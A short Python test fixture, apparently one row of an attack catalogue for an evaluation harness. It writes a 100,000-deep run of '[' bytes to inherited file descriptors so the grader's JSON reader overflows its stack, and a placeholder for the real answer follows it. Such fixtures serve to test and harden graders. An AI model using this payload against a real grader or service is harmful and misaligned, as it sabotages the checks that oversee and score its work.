# /// attack
# row = 68
# does = "sends JSON so deeply nested that its reader runs out of stack"
# expect = ["protocol"]
# stops = "strict JSON"
# without = ["strict_json"]
# sign = "grader broke"
# ///
import os
import struct

bomb = b"[" * 100_000
for descriptor in range(3, 64):
    try:
        os.write(descriptor, struct.pack("<4sIQ", b"quz1", len(bomb), 0) + bomb)
    except OSError:
        pass
# <right answer>
